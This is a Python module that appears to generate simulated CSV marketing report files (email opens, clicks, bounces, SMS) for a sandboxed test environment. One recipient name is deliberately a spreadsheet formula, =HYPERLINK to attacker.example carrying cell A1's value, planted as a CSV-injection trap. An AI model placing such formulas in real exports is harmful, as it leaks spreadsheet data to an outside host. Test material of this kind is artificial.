"""The report files themselves: CSV with a header, one cell of which a spreadsheet would run.

The documents name no column: these are ours. What a type is about (times, links, codes) stands behind what
all have.
"""

import csv
import io
from datetime import datetime, timedelta

from server.sandbox.omis.times import shown
from server.sandbox.state.omis_records import Report, ReportPart
from server.sandbox.world import World

_ROWS = 3
_FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"點我")'
_SMS_FIRST = 11000
_SMS_LAST = 11999
_HEADING = ("ReportJobID", "ReportTypeID", "Name", "Recipient", "Status", "Updated")
_TIMES = {
    "20003": "OpenTime",
    "20005": "ClickTime",
    "21001": "OpenTime",
    "2100199": "OpenTime",
    "21002": "ClickTime",
    "21003": "BounceTime",
    "31003": "RemoveTime",
}
_BY_PEOPLE = ("OpenTime", "ClickTime")
_MACHINE = timedelta(seconds=2)
_BETWEEN = timedelta(hours=5)
_LINKS = ("https://shop.example/spring?member=", "https://shop.example/terms?member=")
_CODES = ("550 5.1.1", "421 4.4.5")

TYPE_NAMES = {
    "11001": "簡訊發送失敗下載報表",
    "11002": "簡訊已送至電信單位的細節",
    "11003": "紀載客戶已收到簡訊的細節",
    "11004": "紀載客戶已未到簡訊的細節",
    "20001": "Email 總寄送報表",
    "20003": "Email 開啟報表",
    "20005": "Email 點選報表",
    "21001": "開信下載報表",
    "2100199": "開信下載報表快捷版",
    "21002": "點選細節下載報表",
    "21003": "退信細節下載報表",
    "21032": "成功發送郵件下載報表",
    "30023": "綜合閱信報表",
    "31003": "移除下載報表",
}


def file_name(report: Report, part: ReportPart) -> str:
    """The name below /WebAPI/Download/."""
    return f"{report.report_id}_{part.type_id}.csv"


def find_file(world: World, name: str) -> str | None:
    """The content of a report file by its name."""
    for report in world.reports.values():
        for part in report.parts.values():
            if file_name(report, part) == name.lower():
                return content(report, part)
    return None


def content(report: Report, part: ReportPart) -> str:
    """Recipients, with one more row after each refresh; the names are what recipients typed.

    The first who opened or clicked is a machine, and the second one did it twice.
    """
    address = _number if _SMS_FIRST <= int(part.type_id) <= _SMS_LAST else _mail
    when = _TIMES.get(part.type_id, "StatusTime")
    target = io.StringIO()
    writer = csv.writer(target)
    writer.writerow([*_HEADING, "SendTime", when, *(_heading_of(when))])
    for number in range(_ROWS + part.revision - 1):
        name = _FORMULA if number == 1 else f"客戶{number + 1}"
        place = (number + 1) // 2 if when in _BY_PEOPLE else number
        cells = [report.report_id, part.type_id, name, address(place), "OK", shown(part.updated)]
        happened = report.created + (_BETWEEN * number or _MACHINE)
        writer.writerow([*cells, *_when(report.created, happened), *_cells_of(when, number)])
    return target.getvalue()


def _when(sent: datetime, happened: datetime) -> tuple[str, str]:
    return shown(sent), shown(happened)


def _heading_of(when: str) -> tuple[str, ...]:
    return {"ClickTime": ("Link",), "BounceTime": ("Code",)}.get(when, ())


def _cells_of(when: str, number: int) -> tuple[str, ...]:
    if when == "ClickTime":
        return (f"{_LINKS[number % len(_LINKS)]}{number}",)
    return (_CODES[number % len(_CODES)],) if when == "BounceTime" else ()


def _number(place: int) -> str:
    return f"09123456{place:02d}"


def _mail(place: int) -> str:
    return f"customer{place + 1}@example.com"
